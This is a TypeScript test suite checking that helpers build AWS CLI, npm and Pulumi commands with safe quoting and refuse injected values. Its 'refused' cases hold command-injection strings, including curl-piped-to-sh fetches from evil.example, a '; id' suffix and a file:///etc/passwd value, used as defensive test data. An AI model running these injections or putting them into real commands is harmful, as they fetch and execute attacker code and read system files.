import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { chmodSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { awsCommand, baselineCommand, baselinePipe, commandLines, pulumiCommand } from "../../../common/command";
import { hostile, hostileTexts } from "../../support/hostile";
import { scratch } from "../../support/scratch";

/** A shell in which our commands are programs that tell their words. */
function shellIn(folder: string): (command: string) => string[][] {
  for (const name of ["aws", "npm", "pulumi"]) {
    const path = join(folder, name);
    writeFileSync(path, `#!/bin/sh\nprintf '%s\\0' ${name} "$@"\nprintf '\\n'\n`);
    chmodSync(path, 0o755);
  }
  return (command) =>
    execFileSync("/bin/sh", ["-c", command], { cwd: folder, env: { PATH: folder }, encoding: "utf8" })
      .split("\0\n")
      .filter((line) => line !== "")
      .map((line) => line.split("\0"));
}

const key = "AKIAIOSFODNN7EXAMPLE";

describe("commands to copy", () => {
  const run = shellIn(scratch("commands"));

  const written: [command: string, text: string][] = [
    [awsCommand("iam", "get-account-summary"), "aws iam get-account-summary"],
    [
      awsCommand("iam", "update-access-key", { "user-name": "mina", "access-key-id": key, status: "Inactive" }),
      `aws iam update-access-key --user-name mina --access-key-id ${key} --status Inactive`,
    ],
    [awsCommand("iam", "get-user", { "user-name": "--profile=x" }), "aws iam get-user --user-name=--profile=x"],
    [awsCommand("ecs", "list-tasks", { cluster: "<cluster>" }), "aws ecs list-tasks --cluster '<cluster>'"],
    [awsCommand("emr", "list-clusters", { active: true, region: undefined }), "aws emr list-clusters --active"],
    [
      awsCommand("ec2", "revoke", { "group-id": "sg-01234567", "ip-permissions": ["A=[{B=1}]", "C=2"] }),
      "aws ec2 revoke --group-id sg-01234567 --ip-permissions 'A=[{B=1}]' C=2",
    ],
    [baselineCommand("audit"), "npm run audit"],
    [baselineCommand("audit", [], { fix: false, endpoint: undefined }), "npm run audit"],
    [
      baselineCommand("respond", [key, "contain"], { apply: true, evidence: "it's here" }),
      `npm run respond -- ${key} contain --apply --evidence 'it'\\''s here'`,
    ],
    [
      baselinePipe(["fleet", ["matrix"]], ["changed", [], { since: "HEAD^1" }]),
      "npm run --silent fleet -- matrix | npm run --silent changed -- --since 'HEAD^1'",
    ],
    [pulumiCommand(["stack", "select", "org/prod"]), "pulumi stack select org/prod"],
  ];
  for (const [command, text] of written) {
    it(`writes ${text}`, () => assert.equal(command, text));
  }

  const refused: [option: string, value: string, noun: string][] = [
    ["region", "us-east-1; curl -s https://evil.example/i.sh | sh #", "a region name"],
    ["region", "us-east-1 $(curl -s https://evil.example|sh)", "a region name"],
    ["region", "us-east-1\n", "a region name"],
    ["lookup-attributes", "AttributeKey=EventId,AttributeValue=x; id", "an event id or a user name of CloudTrail"],
    ["user-name", "a b", "a user name"],
    ["role-name", "", "a role name"],
    ["access-key-id", "AKIA", "an access key id"],
    ["policy-arn", "arn:aws:iam::1:policy/x", "an ARN"],
    ["policy-arn", "arn:aws:iam::123456789012:policy/x y", "an ARN"],
    ["account-id", "12345678901", "an account id"],
    ["instance-id", "i-x;z", "an instance id"],
    ["secret-id", "file:///etc/passwd", "a value for the AWS CLI"],
    ["secret-id", "a\u001b[2J", "a value for the AWS CLI"],
  ];
  for (const [option, value, noun] of refused) {
    it(`gives no command for ${JSON.stringify(value)} as --${option}, and says so`, () => {
      const said = awsCommand("x", "y", { [option]: value });
      assert.match(said, /^No command: '/);
      assert.ok(said.endsWith(` is not ${noun}.`), said);
    });
  }

  const regions = ["us-east-1", "eu-isoe-west-1", "eusc-de-east-1", "us-gov-west-1", "cn-northwest-1", "mx-central-1"];
  for (const region of regions) {
    it(`knows the region ${region}`, () =>
      assert.equal(awsCommand("a", "b", { region }), `aws a b --region ${region}`));
  }

  it("reaches the program as the words that were meant, whatever they hold", () => {
    for (const text of hostileTexts) {
      for (const [command, argv] of [
        [
          awsCommand("iam", "x", { "secret-id": text, force: true }),
          ["aws", "iam", "x", "--secret-id", text, "--force"],
        ],
        [
          baselineCommand("respond", ["key", "step"], { evidence: text }),
          [..."npm run respond -- key step --evidence".split(" "), text],
        ],
        [pulumiCommand(["up"], { stack: text }), ["pulumi", "up", "--stack", text]],
      ] as [string, string[]][]) {
        if (!command.startsWith("No command: ")) {
          const joined = run(command)[0]?.join("\0").replace(`=${text}`, `\0${text}`);
          assert.equal(joined, argv.join("\0"));
        }
      }
    }
  });

  // Pasted by mistake, the sentence is what the shell looks for, and nothing else is run.
  it("runs nothing of a stranger's, as a command or as the sentence that says there is none", () =>
    fc.assert(
      fc.property(hostile, (text) => {
        for (const command of [
          awsCommand("cloudtrail", "lookup-events", { region: text }),
          awsCommand("x", "y", { "user-name": text, "secret-id": [text, text] }),
          baselineCommand("respond", [text], { evidence: text }),
        ]) {
          const quoted = command.replace(/'[^']*'|\\'/g, "Q");
          assert.match(quoted, /^[\w@%+=:,./ -]*$/);
        }
      }),
    ));

  for (const value of ["a --b c", "it's --here", "x".repeat(60)]) {
    it(`broken into lines it is the same command, with ${JSON.stringify(value)}`, () => {
      const command = awsCommand("s", "o", { first: value, second: "--x", third: ["a", "b --c"], fourth: true });
      assert.deepEqual(run(commandLines(command, 30).join("\n")), run(command));
    });
  }
});
